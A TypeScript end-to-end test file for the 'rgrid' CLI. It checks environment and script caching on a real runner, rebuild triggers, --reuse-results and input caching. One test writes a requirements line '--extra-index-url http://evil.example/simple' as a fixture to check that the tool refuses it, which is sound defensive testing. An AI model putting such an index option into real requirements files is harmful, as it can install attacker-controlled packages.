// Caching end to end: `rgrid run` as a process against the local stack with a real runner that
// builds environments with BuildKit from the package index on 127.0.0.1. The requirements carry a
// specifier unique to this test run (`numpy==1.26.4,!=0.0.<n>`): its environment key is new, so
// the first run really builds, whatever images earlier runs left; those images are removed after.
// Covered here on the real runner: script change, reordered requirements, version change and its
// revert, runtime change (node20), --no-cache, result reuse. The base image is part of the env
// key (shared/hashing.ts) and comes from the control plane's runtime table, so its change is
// covered by shared/requirements.test.ts ("env key") and control-plane/test/cache.test.ts.
// Needs Docker, the base images, the runner agent and the pip index; fails (never skips) without them.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { envImageTag } from '../../shared/hashing.js';
import { RGridClient } from '../../cli/api/client.js';
import { runCli, show, workspace, type CliResult, type Workspace } from '../harness/cli.js';
import { startTestStack, type TestStack } from '../harness/stack.js';

const ID = /(exec_[a-z2-7]{24}) submitted/;
const UNIQUE = `!=0.0.${Date.now() % 1_000_000_007}`;
const NUMPY = (version: string) => `numpy==${version},${UNIQUE}`;

let stack: TestStack;
let ws: Workspace;
let client: RGridClient;
const envKeys = new Set<string>();

const NUMPY_SCRIPT = `import numpy, six
print("numpy", numpy.__version__, "sum", int(numpy.arange(10).sum()))
`;

async function run(args: string[], expectCode = 0): Promise<CliResult & { id: string }> {
  const r = await runCli(['run', ...args], ws);
  expect(r.code, show(['run', ...args], r)).toBe(expectCode);
  const id = r.stderr.match(ID)?.[1] ?? r.stderr.match(/(exec_[a-z2-7]{24})/)?.[1] ?? '';
  if (id) envKeys.add((await client.get(id)).execution.envKey);
  return { ...r, id };
}

beforeAll(async () => {
  stack = await startTestStack({ runners: 1, slots: 2 });
  ws = await workspace(stack);
  client = new RGridClient({ baseUrl: stack.apiUrl, token: stack.apiKey });
  await writeFile(join(ws.cwd, 'np.py'), NUMPY_SCRIPT);
  await writeFile(join(ws.cwd, 'requirements.txt'), `${NUMPY('1.26.4')}\nsix==1.17.0\n`);
}, 180_000);

afterAll(async () => {
  // The environments built here have keys no other run will ask for: remove their images.
  const docker = new Docker();
  const execs = (await client?.list({ limit: 200 }).catch(() => undefined))?.executions ?? [];
  for (const e of execs) if (e.requirements?.includes(UNIQUE)) envKeys.add(e.envKey);
  for (const key of envKeys) await docker.getImage(envImageTag(key)).remove({ force: true }).catch(() => undefined);
  await ws?.cleanup();
  await stack?.cleanup();
}, 60_000);

describe('environment cache through the real runner', () => {
  let first: Awaited<ReturnType<typeof run>>;

  it('first run builds numpy from requirements.txt and says why; the second reuses everything', async () => {
    first = await run(['np.py']);
    expect(first.stderr).toContain('Detected requirements.txt with 2 dependencies');
    expect(first.stderr).toContain('Building environment: first build of these 2 requirements');
    expect(first.stderr).toMatch(/\[rgrid\] built environment rgrid-env:[0-9a-f]{32} in [\d.]+s/);
    expect(first.stdout).toBe('numpy 1.26.4 sum 45\n');

    const second = await run(['np.py']);
    expect(second.stderr).toMatch(/✓ Using cached environment \(python3\.11, 2 packages, built (just now|\d+s ago|\d+m ago)\)/);
    expect(second.stderr).toContain('✓ Using cached script');
    expect(second.stderr).not.toContain('Building environment');
    expect(second.stderr).toMatch(/\[rgrid\] using cached environment rgrid-env:/);
    expect(second.stdout).toBe('numpy 1.26.4 sum 45\n');
    // The cache lines are on stderr only: stdout is the script's.
    expect(second.stdout).not.toMatch(/✓|cached/);
  }, 180_000);

  it('a one-character script change: new script key, same environment, new result', async () => {
    await writeFile(join(ws.cwd, 'np.py'), NUMPY_SCRIPT.replace('"sum"', '"Sum"'));
    const r = await run(['np.py']);
    expect(r.stderr).toMatch(/✓ Using cached environment \(python3\.11, 2 packages/);
    expect(r.stderr).not.toContain('Using cached script');
    expect(r.stdout).toBe('numpy 1.26.4 Sum 45\n');
    const [a, b] = await Promise.all([client.get(first.id), client.get(r.id)]);
    expect(b.execution.scriptKey).not.toBe(a.execution.scriptKey);
    expect(b.execution.envKey).toBe(a.execution.envKey);
    await writeFile(join(ws.cwd, 'np.py'), NUMPY_SCRIPT);
  }, 120_000);

  it('requirements reordered and commented only: the same environment', async () => {
    await writeFile(join(ws.cwd, 'requirements.txt'), `# reordered\nSix == 1.17.0\n\n${NUMPY('1.26.4')}   # pinned\n`);
    const r = await run(['np.py']);
    expect(r.stderr).toMatch(/✓ Using cached environment \(python3\.11, 2 packages/);
    expect((await client.get(r.id)).execution.envKey).toBe((await client.get(first.id)).execution.envKey);
  }, 120_000);

  it('a version change rebuilds, and says what changed', async () => {
    await writeFile(join(ws.cwd, 'requirements.txt'), `${NUMPY('1.26.0')}\nsix==1.17.0\n`);
    const r = await run(['np.py']);
    const n = UNIQUE.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    expect(r.stderr).toMatch(new RegExp(`Building environment: requirements changed since last build \\(\\+numpy${n},==1\\.26\\.0, -numpy${n},==1\\.26\\.4\\)`));
    expect(r.stderr).toMatch(/\[rgrid\] built environment/);
    expect(r.stdout).toBe('numpy 1.26.0 sum 45\n');
    // Reverting the change hits the old environment again: nothing is rebuilt.
    await writeFile(join(ws.cwd, 'requirements.txt'), `${NUMPY('1.26.4')}\nsix==1.17.0\n`);
    const back = await run(['np.py']);
    expect(back.stderr).toMatch(/✓ Using cached environment \(python3\.11, 2 packages/);
    expect(back.stderr).not.toMatch(/\[rgrid\] built environment/);
    expect((await client.get(back.id)).execution.envKey).toBe((await client.get(first.id)).execution.envKey);
    expect(back.stdout).toBe('numpy 1.26.4 sum 45\n');
  }, 240_000);

  it('a runtime change (python3.11 → node20) is another environment, run on its own base image', async () => {
    await mkdir(join(ws.cwd, 'js'));
    await writeFile(join(ws.cwd, 'js', 'np.js'), 'console.log("node", process.version.split(".")[0]);\n');
    const r = await run(['js/np.js', '--runtime', 'node20']);
    expect(r.stdout).toBe('node v20\n');
    const [node, py] = await Promise.all([client.get(r.id), client.get(first.id)]);
    expect(node.execution.runtime).toBe('node20');
    expect(node.execution.envKey).not.toBe(py.execution.envKey);
  }, 120_000);

  it('--no-cache rebuilds an environment that exists', async () => {
    const r = await run(['np.py', '--no-cache']);
    expect(r.stderr).toContain('Building environment: --no-cache given (python3.11, 2 packages, rebuilt from scratch)');
    expect(r.stderr).toMatch(/\[rgrid\] built environment/);
    expect(r.stdout).toBe('numpy 1.26.4 sum 45\n');
  }, 180_000);

  it('cache explain shows keys and hits without running; cache stats adds them up', async () => {
    const before = (await client.list({ limit: 200 })).executions.length;
    const ex = await runCli(['cache', 'explain', 'np.py'], ws);
    expect(ex.code, ex.stderr).toBe(0);
    const envKey = (await client.get(first.id)).execution.envKey;
    expect(ex.stdout).toMatch(new RegExp(`environment +hit +key ${envKey}`));
    expect(ex.stdout).toMatch(/script +hit +key [0-9a-f]{64}/);
    expect(ex.stdout).toContain('Nothing was created or run.');
    const json = JSON.parse((await runCli(['cache', 'explain', 'np.py', '--json'], ws)).stdout);
    expect(json.cache.env).toMatchObject({ key: envKey, hit: true, packages: 2 });
    expect((await client.list({ limit: 200 })).executions.length).toBe(before);

    const stats = await runCli(['cache', 'stats'], ws);
    expect(stats.code, stats.stderr).toBe(0);
    expect(stats.stdout).toMatch(/^KIND +HITS +MISSES +HIT RATE$/m);
    expect(stats.stdout).toMatch(/^environment +\d+ +\d+ +\d+%$/m);
    expect(stats.stdout).toMatch(/^script +[1-9]\d* +[1-9]\d* +\d+%$/m);
  }, 60_000);
});

describe('requirements, inputs and results', () => {
  it('refused requirements lines: exit 2 with each line quoted, nothing sent', async () => {
    await mkdir(join(ws.cwd, 'bad'));
    await writeFile(join(ws.cwd, 'bad', 'job.py'), 'print(1)\n');
    await writeFile(join(ws.cwd, 'bad', 'requirements.txt'), 'numpy==1.26.4\n--extra-index-url http://evil.example/simple\n-e ./mylib\n');
    const before = (await client.list({ limit: 200 })).executions.length;
    const r = await runCli(['run', 'bad/job.py'], ws);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain('Error: bad/requirements.txt has 2 lines that cannot be used:');
    expect(r.stderr).toContain('  line 2: "--extra-index-url http://evil.example/simple"');
    expect(r.stderr).toContain('  line 3: "-e ./mylib"');
    expect(r.stderr).toMatch(/option --extra-index-url is not allowed/);
    expect((await client.list({ limit: 200 })).executions.length).toBe(before);
  });

  it('--reuse-results: an identical second run reuses the first one\'s outputs and nothing runs', async () => {
    await mkdir(join(ws.cwd, 'reuse'));
    await writeFile(join(ws.cwd, 'reuse', 'count.py'), 'import sys\nn = sum(1 for _ in open(sys.argv[1]))\nopen("count.txt", "w").write(str(n))\nprint("counted", n)\n');
    await writeFile(join(ws.cwd, 'reuse', 'rows.csv'), 'a\nb\nc\n');
    const one = await run(['reuse/count.py', 'reuse/rows.csv', '--output-dir', 'r1']);
    expect(one.stdout).toBe('counted 3\n');
    const two = await run(['reuse/count.py', 'reuse/rows.csv', '--output-dir', 'r2', '--reuse-results']);
    expect(two.stderr).toContain(`✓ Reused results of ${one.id} (nothing ran)`);
    expect(two.stdout).toBe(''); // the script did not run
    expect(await readFile(join(ws.cwd, 'r2', 'count.txt'), 'utf8')).toBe('3');
    const reused = (await client.list({ limit: 1 })).executions[0]!;
    expect(reused).toMatchObject({ status: 'succeeded', reusedFrom: one.id, startedAt: null });
    // Without the flag it runs again.
    const three = await run(['reuse/count.py', 'reuse/rows.csv', '--output-dir', 'r3']);
    expect(three.stdout).toBe('counted 3\n');
  }, 120_000);

  it('--reuse-results in a batch: only the changed inputs run, the rest reuse their results and all outputs land', async () => {
    const dir = join(ws.cwd, 'rb');
    await mkdir(join(dir, 'in'), { recursive: true });
    await writeFile(join(dir, 'count.py'), 'import os, sys\nn = sum(1 for _ in open(sys.argv[1]))\nopen("count.txt", "w").write(str(n))\nprint("counted", os.path.basename(sys.argv[1]), n)\n');
    for (let i = 1; i <= 6; i++) await writeFile(join(dir, 'in', `f${i}.csv`), 'row\n'.repeat(i));
    const args = ['run', 'count.py', '--batch', 'in/*.csv', '--reuse-results'];
    const one = await runCli(args, { ...ws, cwd: dir });
    expect(one.code, show(args, one)).toBe(0);
    expect(one.stderr).toContain('6 succeeded, 0 failed');
    // Two inputs change; the second run runs those two only.
    await writeFile(join(dir, 'in', 'f2.csv'), 'row\n'.repeat(20));
    await writeFile(join(dir, 'in', 'f5.csv'), 'row\n'.repeat(50));
    const two = await runCli([...args, '--output-dir', 'again'], { ...ws, cwd: dir });
    expect(two.code, show(args, two)).toBe(0);
    expect(two.stderr).toContain('6 succeeded (4 reused earlier results, nothing ran), 0 failed');
    expect(two.stderr).toMatch(/✓ 6 \(4 reused\)/);
    const counts = await Promise.all([1, 2, 3, 4, 5, 6].map((i) => readFile(join(dir, 'again', `f${i}`, 'count.txt'), 'utf8')));
    expect(counts).toEqual(['1', '20', '3', '4', '50', '6']);
    const batchId = two.stderr.match(/(batch_[a-z2-7]{24})/)![1]!;
    const execs = (await client.list({ batch: batchId, limit: 100 })).executions;
    expect(execs).toHaveLength(6);
    expect(execs.filter((e) => e.reusedFrom === null).map((e) => e.inputName).sort()).toEqual(['in/f2.csv', 'in/f5.csv']);
    expect(execs.filter((e) => e.startedAt !== null)).toHaveLength(2);
  }, 180_000);

  it('inputs already stored are not uploaded again, unless --no-cache-inputs', async () => {
    await writeFile(join(ws.cwd, 'reuse', 'more.csv'), 'x\n'.repeat(2000));
    const a = await run(['reuse/count.py', 'reuse/more.csv', '--remote-only']);
    expect(a.stderr).toMatch(/Uploading 1 file/);
    const b = await run(['reuse/count.py', 'reuse/more.csv', '--remote-only']);
    expect(b.stderr).toContain('✓ Using cached inputs (1 file, 3.9 KB)');
    expect(b.stderr).not.toMatch(/Uploading \d/);
    const c = await run(['reuse/count.py', 'reuse/more.csv', '--remote-only', '--no-cache-inputs']);
    expect(c.stderr).toContain('Uploading the input again (--no-cache-inputs)');
    expect(c.stderr).toMatch(/Uploading 2 files/); // the script too
    expect(c.stdout).toBe('counted 2000\n');
  }, 120_000);
});
